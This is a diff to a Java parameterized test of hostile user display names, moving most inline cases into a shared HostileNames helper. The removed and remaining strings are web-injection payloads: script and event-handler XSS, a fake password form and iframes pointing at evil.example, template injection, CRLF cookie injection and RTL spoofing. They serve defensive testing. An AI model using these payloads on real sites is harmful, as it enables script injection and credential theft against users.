@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.latchkey.account.User;
 import dev.latchkey.client.Client;
 import dev.latchkey.client.ClientProfile;
+import dev.latchkey.contract.HostileNames;
 import dev.latchkey.contract.LocalWiring;
 import dev.latchkey.contract.TestClients;
 import dev.latchkey.contract.TestUsers;
@@ -22,43 +23,18 @@ class HostileNamesTest {
   private static final LocalWiring LOCAL = LocalWiring.start();
 
   static Stream<String> names() {
-    return Stream.of(
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<img src=x onerror=alert(1)>",
-        "<svg/onload=alert(1)>",
-        "<svg><animate onbegin=alert(1) attributeName=x>",
-        "\"><script>alert(1)</script>",
-        "'><script>alert(1)</script>",
-        "\" onmouseover=\"alert(1)",
-        "' onfocus='alert(1)' autofocus='",
-        "</bdi></h1><form action=//evil.example><input name=password>",
-        "</title><script>alert(1)</script>",
-        "</textarea><script>alert(1)</script>",
-        "<!--",
-        "-->",
-        "]]>",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<iframe src=//evil.example>",
-        "<object data=//evil.example>",
-        "<embed src=//evil.example>",
-        "<base href=//evil.example>",
-        "<meta http-equiv=refresh content=0;url=//evil.example>",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<style>*{display:none}</style>",
-        "<a href=javascript:alert(1)>x</a>",
-        "javascript:alert(1)",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "&#60;script&#62;",
-        "${1+1} #{1+1} {{1+1}} @template.layout()",
-        "<%= 7*7 %>",
-        "\u202Egnp.exe\u202C <b>x",
-        "a\u0000<script>alert(1)</script>",
-        "＜script＞alert(1)＜/script＞",
-        "<bdo dir=rtl>",
-        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358",
-        "W".repeat(5000),
-        "line\r\nset-cookie: x=y\r\n\r\n<script>");
+    return Stream.concat(
+        HostileNames.all(),
+        Stream.of(
+            "-->",
+            "]]>",
+            "&#60;script&#62;",
+            "<%= 7*7 %>",
+            "a\u0000<script>alert(1)</script>",
+            "<bdo dir=rtl>",
+            "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358",
+            "W".repeat(5000),
+            "line\r\nset-cookie: x=y\r\n\r\n<script>"));
   }
 
   @ParameterizedTest
